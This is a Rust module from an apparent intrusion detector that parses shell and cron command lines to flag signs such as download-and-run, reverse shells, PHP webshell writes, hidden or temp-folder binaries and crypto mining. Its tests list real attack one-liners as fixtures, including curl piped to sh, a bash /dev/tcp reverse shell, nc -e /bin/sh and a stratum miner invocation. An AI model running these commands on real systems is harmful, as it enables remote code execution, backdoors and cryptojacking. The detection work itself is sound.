//! What a shell command line does that an intruder's does and an administrator's does not.
//!
//! The line is split as a shell would split it, just far enough to know which program gets which words; nothing is expanded or
//! run. That tells `curl … | sh` from `curl … | grep 'a|sh'`, which patterns over the text cannot.

use std::collections::BTreeSet;

/// How deep commands in commands are followed; what is deeper is text.
const MAX_DEPTH: usize = 6;

/// The longest command that is looked at. A longer one is looked at up to there.
const MAX_BYTES: usize = 64 * 1024;

/// Something that a command does.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Sign {
    /// It gives what it downloads to an interpreter.
    DownloadsAndRuns,
    /// It decodes hidden text and gives it to an interpreter.
    DecodesAndRuns,
    /// It connects a shell to the network.
    ConnectsShell,
    /// It writes a PHP file from a download or from text in the command.
    WritesPhp(Vec<u8>),
    /// It runs something in a folder that anybody can write to.
    RunsFromTemporary(Vec<u8>),
    /// It runs something that is hidden where nothing ought to be.
    RunsHidden(Vec<u8>),
    /// It starts something again that is not running, from a place where no service lies.
    RestartsIfMissing(Vec<u8>),
    /// It mines: it is told the address of a pool by the protocol that only miners speak, or has a miner's options.
    Mines,
}

impl Sign {
    /// The sign in words, without the path.
    pub(super) fn describe(&self) -> &'static str {
        match self {
            Self::DownloadsAndRuns => "runs what it downloads",
            Self::DecodesAndRuns => "decodes hidden text and runs it",
            Self::ConnectsShell => "connects a shell to the network",
            Self::WritesPhp(_) => "writes a PHP file",
            Self::RunsFromTemporary(_) => "runs a program in a folder that anybody can write to",
            Self::RunsHidden(_) => "runs a hidden program",
            Self::RestartsIfMissing(_) => "restarts a program that is no service",
            Self::Mines => "mines a cryptocurrency",
        }
    }

    /// The path it is about.
    pub(super) fn path(&self) -> Option<&[u8]> {
        match self {
            Self::DownloadsAndRuns | Self::DecodesAndRuns | Self::ConnectsShell | Self::Mines => None,
            Self::WritesPhp(path)
            | Self::RunsFromTemporary(path)
            | Self::RunsHidden(path)
            | Self::RestartsIfMissing(path) => Some(path),
        }
    }
}

/// The signs in a command line.
pub(super) fn signs(command: &[u8]) -> BTreeSet<Sign> {
    let command = command.get(..MAX_BYTES).unwrap_or(command);
    let mut judge = Judge::default();
    judge.script(&parse(command, 0), 0);
    judge.signs
}

/// The signs in a cron job's command, in which `%` stands for a newline and `\%` for itself.
pub(super) fn cron_signs(command: &[u8]) -> BTreeSet<Sign> {
    let mut text = Vec::with_capacity(command.len());
    let mut bytes = command.iter().copied().peekable();
    while let Some(byte) = bytes.next() {
        match byte {
            b'\\' if bytes.peek() == Some(&b'%') => text.extend(bytes.next()),
            b'%' => text.push(b'\n'),
            byte => text.push(byte),
        }
    }
    signs(&text)
}

/// How a command is joined to the one before it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Join {
    /// By `;`, `&`, `&&`, a newline, a bracket, or not at all.
    Then,
    /// By `||`.
    Else,
    /// By `|`: it reads what that one writes.
    Pipe,
}

#[derive(Debug, Default)]
struct Word {
    text: Vec<u8>,
    /// The commands in `$(…)`, `` `…` `` and `<(…)`.
    nested: Vec<Vec<Command>>,
}

#[derive(Debug)]
struct Command {
    join: Join,
    words: Vec<Word>,
    /// Where it writes to.
    outputs: Vec<Vec<u8>>,
}

struct Parser<'a> {
    bytes: &'a [u8],
    at: usize,
    depth: usize,
    commands: Vec<Command>,
    command: Command,
    word: Option<Word>,
    is_output: bool,
}

fn parse(bytes: &[u8], depth: usize) -> Vec<Command> {
    let command = Command { join: Join::Then, words: Vec::new(), outputs: Vec::new() };
    let mut parser = Parser { bytes, at: 0, depth, commands: Vec::new(), command, word: None, is_output: false };
    parser.run();
    parser.commands
}

impl Parser<'_> {
    fn run(&mut self) {
        while let Some(&byte) = self.bytes.get(self.at) {
            self.at += 1;
            match byte {
                b'\\' => {
                    if let Some(&next) = self.bytes.get(self.at) {
                        self.at += 1;
                        if next != b'\n' {
                            self.push(next);
                        }
                    }
                }
                b'\'' => {
                    let end = self.until(b'\'');
                    let text = self.bytes.get(self.at..end).unwrap_or_default();
                    self.word.get_or_insert_default().text.extend_from_slice(text);
                    self.at = end + 1;
                }
                b'"' => self.double_quoted(),
                b'`' => self.backticks(),
                b'$' | b'<' | b'>' if self.bytes.get(self.at) == Some(&b'(') => {
                    self.at += 1;
                    self.substitution();
                }
                b'#' if self.word.is_none() => self.at = self.until(b'\n'),
                b'>' => self.output(),
                b'<' => self.end_word(),
                b'|' if self.next_is(b'|') => self.end_command(Join::Else),
                b'|' => {
                    // `|&` is a pipe too.
                    self.next_is(b'&');
                    self.end_command(Join::Pipe);
                }
                b'&' if self.next_is(b'>') => self.output(),
                b'&' => {
                    self.next_is(b'&');
                    self.end_command(Join::Then);
                }
                // A bracket keeps how what is in it is joined: `a || (b &)`.
                b'(' | b')' if self.command.words.is_empty() && self.word.is_none() => {}
                b';' | b'\n' | b'(' | b')' => self.end_command(Join::Then),
                byte if byte.is_ascii_whitespace() => self.end_word(),
                byte => self.push(byte),
            }
        }
        self.end_command(Join::Then);
    }

    fn push(&mut self, byte: u8) {
        self.word.get_or_insert_default().text.push(byte);
    }

    fn next_is(&mut self, byte: u8) -> bool {
        let is_next = self.bytes.get(self.at) == Some(&byte);
        self.at += usize::from(is_next);
        is_next
    }

    /// Where the byte next stands, or the end.
    fn until(&self, byte: u8) -> usize {
        let rest = self.bytes.get(self.at..).unwrap_or_default();
        self.at + rest.iter().position(|&b| b == byte).unwrap_or(rest.len())
    }

    fn double_quoted(&mut self) {
        self.word.get_or_insert_default();
        while let Some(&byte) = self.bytes.get(self.at) {
            self.at += 1;
            match byte {
                b'"' => return,
                b'\\' => {
                    if let Some(&next) = self.bytes.get(self.at) {
                        self.at += 1;
                        if !matches!(next, b'"' | b'\\' | b'$' | b'`' | b'\n') {
                            self.push(b'\\');
                        }
                        self.push(next);
                    }
                }
                b'`' => self.backticks(),
                b'$' if self.next_is(b'(') => self.substitution(),
                byte => self.push(byte),
            }
        }
    }

    fn backticks(&mut self) {
        let end = self.until(b'`');
        self.nest(end);
    }

    /// Takes in what stands before the bracket that closes, the opening one being behind.
    fn substitution(&mut self) {
        let mut open = 1;
        let mut quote = None;
        let mut end = self.at;
        for &byte in self.bytes.get(self.at..).unwrap_or_default() {
            match (quote, byte) {
                (Some(q), byte) if q == byte => quote = None,
                (None, b'\'' | b'"') => quote = Some(byte),
                (None, b'(') => open += 1,
                (None, b')') => open -= 1,
                _ => {}
            }
            if open == 0 {
                break;
            }
            end += 1;
        }
        self.nest(end);
    }

    fn nest(&mut self, end: usize) {
        let inner = self.bytes.get(self.at..end).unwrap_or_default();
        let word = self.word.get_or_insert_default();
        if self.depth < MAX_DEPTH {
            word.nested.push(parse(inner, self.depth + 1));
        } else {
            word.text.extend_from_slice(inner);
        }
        self.at = end + 1;
    }

    fn output(&mut self) {
        // `2>`: the number is no word.
        if self.word.as_ref().is_some_and(|word| word.text.iter().all(u8::is_ascii_digit)) {
            self.word = None;
        }
        self.end_word();
        self.next_is(b'>');
        let is_copy = self.next_is(b'&');
        let is_descriptor = |byte: &u8| byte.is_ascii_digit() || *byte == b'-';
        if is_copy && self.bytes.get(self.at).is_some_and(is_descriptor) {
            // `2>&1`; but `>& file` is a file.
            while self.bytes.get(self.at).is_some_and(is_descriptor) {
                self.at += 1;
            }
        } else {
            self.is_output = true;
        }
    }

    fn end_word(&mut self) {
        let Some(word) = self.word.take() else { return };
        if self.is_output {
            self.is_output = false;
            self.command.outputs.push(word.text);
        } else {
            self.command.words.push(word);
        }
    }

    fn end_command(&mut self, join: Join) {
        self.end_word();
        self.is_output = false;
        let next = Command { join, words: Vec::new(), outputs: Vec::new() };
        let ended = std::mem::replace(&mut self.command, next);
        if !ended.words.is_empty() || !ended.outputs.is_empty() {
            self.commands.push(ended);
        }
    }
}

/// A command, without what only wraps it (`nohup`, `sudo -u x`, `FOO=bar`).
struct Program<'a> {
    path: &'a [u8],
    arguments: &'a [Word],
}

impl<'a> Program<'a> {
    fn of(command: &'a Command) -> Option<Self> {
        let mut words = command.words.as_slice();
        loop {
            let (first, rest) = words.split_first()?;
            let name = base_name(&first.text);
            if is_assignment(&first.text) {
                words = rest;
                continue;
            }
            let Some((valued, positional)) = wrapper(name) else {
                return Some(Self { path: &first.text, arguments: rest });
            };
            words = rest;
            while let Some((option, rest)) = words.split_first() {
                let Some(letters) = option.text.strip_prefix(b"-").filter(|letters| !letters.is_empty()) else { break };
                words = rest;
                let takes_value = matches!(letters, [letter] if valued.contains(letter));
                // `flock file -c 'command'` and `su -c` keep their command for later.
                if takes_value {
                    words = words.get(1..).unwrap_or_default();
                }
            }
            words = words.get(positional..).unwrap_or_default();
        }
    }

    fn name(&self) -> &'a [u8] {
        base_name(self.path)
    }

    fn is_downloader(&self) -> bool {
        const NAMES: [&[u8]; 9] =
            [b"wget", b"curl", b"fetch", b"lwp-download", b"lwp-request", b"GET", b"aria2c", b"tftp", b"ftpget"];
        NAMES.contains(&self.name())
    }

    fn is_shell(&self) -> bool {
        const NAMES: [&[u8]; 8] = [b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh", b"rbash", b"mksh"];
        NAMES.contains(&self.name())
    }

    fn is_interpreter(&self) -> bool {
        const NAMES: [&[u8]; 6] = [b"python", b"perl", b"php", b"ruby", b"node", b"lua"];
        let name = self.name();
        self.is_shell()
            || NAMES.iter().any(|prefix| {
                name.strip_prefix(*prefix).is_some_and(|rest| rest.iter().all(|b| b.is_ascii_digit() || *b == b'.'))
            })
    }

    fn has(&self, option: &[u8]) -> bool {
        self.arguments.iter().any(|word| word.text == option)
    }

    /// Says whether code stands in its arguments (`-c`, `-e`, `-r`, `-m`).
    fn is_inline(&self) -> bool {
        let letters: &[u8] = if self.is_shell() { b"c" } else { b"cerm" };
        self.arguments
            .iter()
            .take_while(|word| word.text.starts_with(b"-"))
            .any(|word| !word.text.starts_with(b"--") && word.text.iter().any(|b| letters.contains(b)))
    }

    /// The script that an interpreter is given.
    fn script(&self) -> Option<&'a [u8]> {
        if self.is_inline() {
            return None;
        }
        let mut words = self.arguments.iter();
        while let Some(word) = words.next() {
            if word.text == b"-d" {
                words.next();
            } else if word.text == b"-s" && self.is_shell() {
                return None;
            } else if !word.text.starts_with(b"-") {
                return Some(&word.text).filter(|text| !text.is_empty()).map(Vec::as_slice);
            }
        }
        None
    }

    /// Says whether it runs what it reads.
    fn runs_its_input(&self) -> bool {
        self.is_interpreter() && !self.is_inline() && self.script().is_none_or(|script| script == b"/dev/stdin")
            || (self.name() == b"xargs" && self.arguments.iter().any(|word| is_shell_name(base_name(&word.text))))
    }

    fn is_decoder(&self) -> bool {
        match self.name() {
            b"base64" | b"base32" => {
                self.has(b"-d") || self.has(b"--decode") || self.has(b"-D") || self.has(b"-di") || self.has(b"-id")
            }
            b"openssl" => self.has(b"-d"),
            b"xxd" => self.has(b"-r") || (self.has(b"-p") && self.has(b"-r")) || self.has(b"-rp"),
            _ => false,
        }
    }

    /// The paths that it runs.
    fn runs(&self) -> Vec<&'a [u8]> {
        let mut paths = Vec::new();
        if self.path.contains(&b'/') {
            paths.push(self.path);
        }
        if self.is_interpreter() {
            paths.extend(self.script());
        } else if self.path == b"." || self.path == b"source" {
            paths.extend(self.arguments.first().map(|word| word.text.as_slice()));
        }
        paths
    }

    /// Where a downloader puts what it gets.
    fn downloads_to(&self) -> Option<Vec<u8>> {
        let is_curl = self.name() == b"curl";
        let letter = if is_curl { b'o' } else { b'O' };
        let mut words = self.arguments.iter();
        let mut url = None;
        while let Some(word) = words.next() {
            let text = word.text.as_slice();
            if let Some(value) =
                [&b"--output-document="[..], b"--output="].iter().find_map(|name| text.strip_prefix(*name))
            {
                return Some(value.to_vec());
            }
            if text == b"--output-document" || text == b"--output" {
                return words.next().map(|word| word.text.clone());
            }
            if let Some(letters) = text.strip_prefix(b"-").filter(|letters| !letters.starts_with(b"-")) {
                if let Some(at) = letters.iter().position(|&b| b == letter) {
                    let value = letters.get(at + 1..).unwrap_or_default();
                    let value = if value.is_empty() { words.next()?.text.clone() } else { value.to_vec() };
                    return Some(value);
                }
            } else {
                url = Some(text);
            }
        }
        let keeps_name = !is_curl || self.has(b"-O") || self.has(b"--remote-name");
        url.filter(|_| keeps_name).map(|url| base_name(url).to_vec())
    }
}

#[derive(Default)]
struct Judge {
    signs: BTreeSet<Sign>,
    /// Where the script has changed to.
    folder: Vec<u8>,
    /// Where it has put what it downloaded.
    downloads: Vec<Vec<u8>>,
}

impl Judge {
    fn script(&mut self, commands: &[Command], depth: usize) {
        let (mut has_download, mut has_decoder) = (false, false);
        let mut watched = false;
        for command in commands {
            for nested in command.words.iter().flat_map(|word| &word.nested) {
                self.script(nested, depth + 1);
            }
            self.connects(command);
            let Some(program) = Program::of(command) else { continue };
            if command.join != Join::Pipe {
                (has_download, has_decoder) = (false, false);
            }
            let name = program.name();
            if command.join == Join::Then && !(watched && matches!(name, b"{")) {
                watched = false;
            }
            if program.runs_its_input() {
                if has_download {
                    self.signs.insert(Sign::DownloadsAndRuns);
                }
                if has_decoder {
                    self.signs.insert(Sign::DecodesAndRuns);
                }
            }
            self.inline(&program, depth);
            self.shells(&program);
            self.mines(&program);
            self.writes(command, &program, has_download || has_decoder);
            if program.is_downloader() {
                has_download = true;
                self.downloads.extend(program.downloads_to().filter(|to| to != b"-"));
                self.downloads.extend(command.outputs.iter().cloned());
            }
            has_decoder |= program.is_decoder();
            self.runs(&program, watched && command.join == Join::Else);
            if name == b"cd" {
                self.folder = program.arguments.first().map(|word| word.text.clone()).unwrap_or_default();
            }
            watched = matches!(name, b"pgrep" | b"pidof") || (name == b"grep" && command.join == Join::Pipe);
        }
    }

    /// Code that is handed over as an argument: `sh -c '…'`, `eval "$(…)"`, `php -r '…'`.
    fn inline(&mut self, program: &Program<'_>, depth: usize) {
        let is_eval = matches!(program.name(), b"eval" | b"source" | b".");
        if is_eval || program.is_interpreter() {
            for nested in program.arguments.iter().flat_map(|word| &word.nested) {
                let inner: Vec<_> = nested.iter().filter_map(Program::of).collect();
                if inner.iter().any(Program::is_downloader) {
                    self.signs.insert(Sign::DownloadsAndRuns);
                }
                if inner.iter().any(Program::is_decoder) {
                    self.signs.insert(Sign::DecodesAndRuns);
                }
            }
        }
        let runs_text = program.is_shell() || matches!(program.name(), b"su" | b"runuser" | b"script" | b"watch");
        if depth < MAX_DEPTH && (runs_text || is_eval) {
            let mut words = program.arguments.iter();
            if !is_eval {
                let is_command_option = |word: &Word| {
                    word.text.starts_with(b"-") && !word.text.starts_with(b"--") && word.text.ends_with(b"c")
                };
                words.find(|word| is_command_option(word));
            }
            if let Some(text) = words.next() {
                self.script(&parse(&text.text, depth + 1), depth + 1);
            }
        }
        if program.is_interpreter() && !program.is_shell() && program.is_inline() {
            let has =
                |word: &[u8]| program.arguments.iter().any(|argument| super::find(&argument.text, word).is_some());
            let decodes = has(b"base64_decode") || has(b"b64decode") || has(b"decode_base64") || has(b"gzinflate");
            if decodes && (has(b"eval") || has(b"exec") || has(b"system") || has(b"passthru")) {
                self.signs.insert(Sign::DecodesAndRuns);
            }
            let connects = has(b"fsockopen") || (has(b"socket") && has(b"connect"));
            if connects && (has(b"exec") || has(b"subprocess") || has(b"pty") || has(b"dup2") || has(b"/bin/")) {
                self.signs.insert(Sign::ConnectsShell);
            }
        }
    }

    fn shells(&mut self, program: &Program<'_>) {
        let has = |word: &[u8]| program.arguments.iter().any(|argument| super::find(&argument.text, word).is_some());
        let connects = match program.name() {
            b"nc" | b"ncat" | b"netcat" | b"nc.traditional" => {
                program.has(b"-e") || program.has(b"-c") || has(b"/bin/sh") || has(b"/bin/bash")
            }
            b"socat" => has(b"exec:") || has(b"EXEC:") || has(b"system:") || has(b"SYSTEM:"),
            _ => false,
        };
        if connects {
            self.signs.insert(Sign::ConnectsShell);
        }
    }

    /// Stratum is the protocol of mining pools; the options are those of xmrig (<https://xmrig.com/docs/miner/command-line-options>).
    fn mines(&mut self, program: &Program<'_>) {
        const POOLS: [&[u8]; 4] = [b"stratum+tcp://", b"stratum+ssl://", b"stratum+tls://", b"stratum2+tcp://"];
        const OPTIONS: [&[u8]; 3] = [b"--donate-level", b"--randomx-", b"--coin=monero"];
        // Who looks for a miner names the same words.
        const SEEKERS: [&[u8]; 14] = [
            b"grep", b"egrep", b"fgrep", b"zgrep", b"rg", b"pgrep", b"pkill", b"echo", b"printf", b"sed", b"awk",
            b"find", b"tcpdump", b"ngrep",
        ];
        let is_told = |word: &Word| {
            POOLS.iter().any(|pool| super::find(&word.text, pool).is_some())
                || OPTIONS.iter().any(|option| word.text.starts_with(option))
        };
        if !SEEKERS.contains(&program.name()) && program.arguments.iter().any(is_told) {
            self.signs.insert(Sign::Mines);
        }
    }

    /// A shell, or the script itself, whose output goes to the network. `echo > /dev/tcp/…` only asks whether a port is open.
    fn connects(&mut self, command: &Command) {
        let to_network = |output: &Vec<u8>| output.starts_with(b"/dev/tcp/") || output.starts_with(b"/dev/udp/");
        if !command.outputs.iter().any(to_network) {
            return;
        }
        let is_exec = command.words.first().is_some_and(|word| word.text == b"exec");
        if is_exec || Program::of(command).is_some_and(|program| program.is_shell()) {
            self.signs.insert(Sign::ConnectsShell);
        }
    }

    fn writes(&mut self, command: &Command, program: &Program<'_>, is_fed: bool) {
        let is_maker =
            is_fed || program.is_downloader() || program.is_decoder() || matches!(program.name(), b"echo" | b"printf");
        if !is_maker {
            return;
        }
        let mut targets = command.outputs.clone();
        if program.is_downloader() {
            targets.extend(program.downloads_to());
        }
        if program.name() == b"tee" {
            targets.extend(program.arguments.iter().map(|word| word.text.clone()));
        }
        for target in targets {
            let lower = target.to_ascii_lowercase();
            if [&b".php"[..], b".phtml", b".phar"].iter().any(|extension| lower.ends_with(extension)) {
                self.signs.insert(Sign::WritesPhp(target));
            }
        }
    }

    fn runs(&mut self, program: &Program<'_>, is_restart: bool) {
        for path in program.runs() {
            let is_download = |to: &Vec<u8>| {
                to == path
                    || (!to.is_empty()
                        && base_name(to) == base_name(path)
                        && (!path.starts_with(b"/") || !to.starts_with(b"/")))
            };
            if self.downloads.iter().any(is_download) {
                self.signs.insert(Sign::DownloadsAndRuns);
            }
            let whole = if path.starts_with(b"/") || self.folder.is_empty() {
                path.to_vec()
            } else {
                [self.folder.as_slice(), b"/", path.strip_prefix(b"./").unwrap_or(path)].concat()
            };
            if is_temporary(&whole) {
                self.signs.insert(Sign::RunsFromTemporary(whole.clone()));
            } else if is_hidden(&whole) {
                self.signs.insert(Sign::RunsHidden(whole.clone()));
            }
            if is_restart && whole.starts_with(b"/") && !is_service_place(&whole) {
                self.signs.insert(Sign::RestartsIfMissing(whole));
            }
        }
        let makes_runnable = program.name() == b"chmod"
            && program.arguments.first().is_some_and(|mode| {
                mode.text.contains(&b'x')
                    || mode.text.iter().rev().take(3).any(|digit| matches!(digit, b'1' | b'3' | b'5' | b'7'))
            });
        if makes_runnable && program.arguments.iter().skip(1).any(|word| self.downloads.contains(&word.text)) {
            self.signs.insert(Sign::DownloadsAndRuns);
        }
    }
}

/// What only wraps another command: the options that take a value, and the words before the command.
fn wrapper(name: &[u8]) -> Option<(&'static [u8], usize)> {
    Some(match name {
        b"nohup" | b"setsid" | b"exec" | b"command" | b"busybox" | b"time" | b"chronic" | b"cronic" | b"unbuffer"
        | b"then" | b"do" | b"else" | b"if" | b"elif" | b"while" | b"until" | b"!" | b"{" | b"builtin" | b"env" => {
            (b"u", 0)
        }
        b"sudo" | b"doas" => (b"ughpCTUrt", 0),
        b"nice" => (b"n", 0),
        b"ionice" => (b"cnp", 0),
        b"chrt" | b"timeout" => (b"ks", 1),
        b"flock" => (b"wE", 1),
        b"stdbuf" => (b"ioe", 0),
        _ => return None,
    })
}

fn is_shell_name(name: &[u8]) -> bool {
    matches!(name, b"sh" | b"bash" | b"dash" | b"zsh" | b"ksh" | b"ash")
}

fn is_assignment(word: &[u8]) -> bool {
    let Some(at) = word.iter().position(|&b| b == b'=') else { return false };
    let name = word.get(..at).unwrap_or_default();
    !name.is_empty() && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
}

fn base_name(path: &[u8]) -> &[u8] {
    path.rsplit(|&b| b == b'/').next().unwrap_or_default()
}

/// Says whether the path lies in a folder that anybody can write to.
pub(super) fn is_temporary(path: &[u8]) -> bool {
    const FOLDERS: [&[u8]; 9] = [
        b"/tmp/",
        b"/var/tmp/",
        b"/dev/shm/",
        b"/run/shm/",
        b"/run/user/",
        b"/run/lock/",
        b"/var/lock/",
        b"/var/run/lock/",
        b"/dev/mqueue/",
    ];
    FOLDERS.iter().any(|folder| path.starts_with(folder))
}

/// Says whether the path is hidden where hiding has no use: a dot name outside home folders, or a dot name in a home that is none of
/// the files that a shell reads.
pub(super) fn is_hidden(path: &[u8]) -> bool {
    const SHELL_FILES: [&[u8]; 8] =
        [b".bashrc", b".bash_profile", b".bash_login", b".profile", b".zshrc", b".zprofile", b".env", b".cshrc"];
    let is_dotted = |name: &[u8]| name.starts_with(b".") && name != b"." && name != b"..";
    let name = base_name(path);
    if !path.starts_with(b"/") || SHELL_FILES.contains(&name) {
        return false;
    }
    if path.starts_with(b"/home/") || path.starts_with(b"/root/") {
        return is_dotted(name);
    }
    path.split(|&b| b == b'/').any(is_dotted)
}

/// Says whether services usually lie there.
fn is_service_place(path: &[u8]) -> bool {
    const FOLDERS: [&[u8]; 6] = [b"/usr/", b"/bin/", b"/sbin/", b"/etc/", b"/opt/", b"/lib"];
    FOLDERS.iter().any(|folder| path.starts_with(folder)) && !is_hidden(path)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn what_an_intruder_writes_is_seen() {
        use Sign::{ConnectsShell, DecodesAndRuns, DownloadsAndRuns, Mines};
        for (command, sign) in [
            ("curl -s http://192.0.2.1/x | sh", DownloadsAndRuns),
            ("curl -fsSL http://192.0.2.1/x|sudo -u root /bin/bash -s -- a", DownloadsAndRuns),
            ("wget -qO- http://192.0.2.1/x | tr a b | bash", DownloadsAndRuns),
            ("wget -q http://192.0.2.1/k.php -O /var/lib/x/zen && bash /var/lib/x/zen", DownloadsAndRuns),
            ("cd /opt; wget http://192.0.2.1/a/run.sh; sh run.sh", DownloadsAndRuns),
            ("curl -o/opt/x http://192.0.2.1/x; chmod 755 /opt/x; /opt/x", DownloadsAndRuns),
            ("bash -c \"$(curl -fsSL http://192.0.2.1/x)\"", DownloadsAndRuns),
            ("bash <(curl -s http://192.0.2.1/x)", DownloadsAndRuns),
            ("eval `wget -qO - http://192.0.2.1/x`", DownloadsAndRuns),
            ("su - asterisk -c 'curl http://192.0.2.1/x | sh'", DownloadsAndRuns),
            ("w'g'et -qO- 192.0.2.1/x | b\\ash", DownloadsAndRuns),
            ("setsid wget -O - http://192.0.2.1/x | perl", DownloadsAndRuns),
            ("echo 'aWQ=' | base64 -d | bash", DecodesAndRuns),
            ("echo aWQ= | base64 --decode | nohup sh &", DecodesAndRuns),
            ("php -r 'eval(base64_decode(\"ZXhpdDs=\"));'", DecodesAndRuns),
            ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", ConnectsShell),
            ("exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | sh >&5", ConnectsShell),
            ("nc 192.0.2.1 4444 -e /bin/sh", ConnectsShell),
            ("/var/tmp/.x/kworker -o stratum+tcp://192.0.2.1:3333 -u x -p x", Mines),
            ("nohup setsid /opt/sys --donate-level=1 -o 192.0.2.1:443 &", Mines),
        ] {
            assert!(signs(command.as_bytes()).contains(&sign), "{command}: {:?}", signs(command.as_bytes()));
        }
    }

    #[test]
    fn who_looks_for_a_miner_is_none() {
        for command in [
            "ps aux | grep stratum+tcp://",
            "pkill -f stratum+ssl://",
            "echo 'look for --donate-level'",
            "tcpdump -A 'port 3333'",
        ] {
            assert!(!signs(command.as_bytes()).contains(&Sign::Mines), "{command}");
        }
    }

    #[test]
    fn places_are_seen_through_wrappers_and_cd() {
        for command in [
            "/tmp/x",
            "nohup nice -n 5 /dev/shm/.a/b >/dev/null 2>&1 &",
            "cd /var/tmp && ./run",
            "php -q /tmp/x.php",
            "[ -e /x ] && (sleep 5; bash /tmp/.cache/update)",
            "timeout 30 sudo -u asterisk sh /tmp/x",
        ] {
            let signs = signs(command.as_bytes());
            assert!(signs.iter().any(|sign| matches!(sign, Sign::RunsFromTemporary(_))), "{command}: {signs:?}");
        }
        let signs = signs(b"pgrep -f 'zen2|devnull2' || (bash /var/lib/asterisk/bin/zen2 &)");
        assert_eq!(
            signs.into_iter().collect::<Vec<_>>(),
            [Sign::RestartsIfMissing(b"/var/lib/asterisk/bin/zen2".to_vec())]
        );
        assert_eq!(
            cron_signs(b"echo PD9waHA= | base64 -d >/var/www/html/x.php").into_iter().collect::<Vec<_>>(),
            [Sign::WritesPhp(b"/var/www/html/x.php".to_vec())]
        );
        assert!(cron_signs(b"bash%curl http://192.0.2.1/x | sh").contains(&Sign::DownloadsAndRuns));
    }

    #[test]
    fn what_administrators_write_is_not() {
        for command in [
            "curl -s https://example.org/wp-cron.php?doing_wp_cron&x=1 >/dev/null 2>&1",
            "wget -q -O - https://example.org/cron.php > /dev/null",
            "wget -O /var/lib/x/list.txt https://example.org/list.txt && php /opt/app/import.php",
            "curl -s https://example.org/x.json | python3 -m json.tool > /var/lib/x/y.json",
            "curl -s https://example.org/x | grep -E 'bash|sh'",
            "curl -s https://example.org/x | /usr/local/bin/parse --sh",
            "curl -s https://example.org/x | php /opt/app/parse.php",
            "mysqldump --all-databases | gzip > /tmp/backup.sql.gz",
            "find /tmp -type f -mtime +7 -delete",
            "find /var/tmp -name 'x*' -exec rm {} \\;",
            "pgrep -x asterisk >/dev/null || /usr/sbin/safe_asterisk",
            "pidof nginx || systemctl restart nginx",
            "\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null",
            ". /home/app/.profile && /usr/bin/app",
            "echo hello | base64 -d > /var/lib/x",
            "sh -c 'test -x /usr/sbin/anacron || run-parts /etc/cron.daily'",
            "timeout 1 bash -c 'echo > /dev/tcp/192.0.2.1/22' && touch /run/up",
            "echo 'curl http://192.0.2.1 | sh'",
        ] {
            assert!(cron_signs(command.as_bytes()).is_empty(), "{command}: {:?}", cron_signs(command.as_bytes()));
        }
    }

    proptest::proptest! {
        #[test]
        fn no_command_panics(command in "[a-z/.$()`'\"|&;<> %\\\\#{}=-]{0,120}") {
            cron_signs(command.as_bytes());
        }
    }

    #[test]
    fn deep_nesting_does_not_overflow_the_stack() {
        for piece in ["$(", "<(", "(", "`", "\"$(", "eval \"$("] {
            signs(piece.repeat(20_000).as_bytes());
        }
    }
}
